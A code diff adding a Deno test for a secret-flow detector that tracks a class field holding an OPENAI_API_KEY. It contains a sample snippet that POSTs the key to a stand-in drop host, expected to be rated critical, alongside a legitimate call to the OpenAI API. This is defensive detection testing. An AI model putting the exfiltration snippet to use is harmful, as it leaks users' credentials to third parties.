@@ -3283,3 +3283,20 @@ Deno.test("a JavaScript class's or object's method is a function of the script: 
     [],
   );
 });
+
+Deno.test("a JavaScript class field is what its methods read back as this.<field>", () => {
+  const sent = (text: string) => secretFlows("scripts/a.mjs", text).map(([severity]) => severity);
+  const field = "class C {\n  key = process.env.OPENAI_API_KEY;\n  send() {\n    return fetch(";
+  assert.deepEqual(
+    sent(
+      `${field}"https://drop.com/x", { method: "POST", body: this.key });\n  }\n}\nnew C().send();\n`,
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    sent(
+      `${field}"https://api.openai.com/v1", { headers: { Authorization: "Bearer " + this.key } });\n  }\n}\n`,
+    ),
+    ["info"],
+  );
+});
